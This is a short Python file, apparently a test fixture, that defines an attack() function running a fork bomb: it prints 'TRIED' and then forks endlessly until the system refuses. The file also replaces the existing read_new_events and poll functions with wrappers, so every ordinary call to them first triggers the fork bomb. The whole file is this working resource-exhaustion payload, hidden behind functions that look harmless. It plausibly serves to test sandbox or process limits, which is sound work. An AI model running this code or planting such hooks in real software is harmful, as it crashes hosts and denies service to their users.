import os
import signal


def attack():
    print("TRIED", flush=True)
    while True:
        try:
            if os.fork() == 0:
                signal.pause()
        except OSError:
            return


_read, _poll = read_new_events, poll


def read_new_events(path, offset):
    attack()
    return _read(path, offset)


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
